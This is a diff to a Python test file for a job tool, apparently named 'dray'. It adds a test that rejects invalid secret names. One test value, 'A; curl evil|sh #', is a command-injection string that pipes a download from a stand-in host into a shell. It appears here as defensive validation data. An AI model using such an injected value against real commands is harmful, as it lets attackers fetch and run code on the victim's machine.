@@ -243,3 +243,12 @@ def test_doctor_tells_of_locks(work: bool, only_here: bool, said: str) -> None:
     facts = {"file_system": "lustre", "options": ["flock"], "work": work, "only_here": only_here}
     (finding,) = lock_findings(facts)
     assert said in finding.detail
+
+
+@pytest.mark.parametrize("name", ["A; curl evil|sh #", "", "1A", "A B", "A\n", "Ä"])
+def test_a_secret_is_the_name_of_a_variable(name: str) -> None:
+    """It appears in a command to copy: dray resume JOB --secret NAME."""
+    record = {**ANSWERS["status"]["jobs"][0], "job": {**SPEC.to_dict(), "secrets": [name]}}
+    view = JobView.from_dict(record, "evil", JOB)
+    assert (view.state, view.spec.secrets) == ("lost", ())
+    assert "not the name of a variable" in view.reason
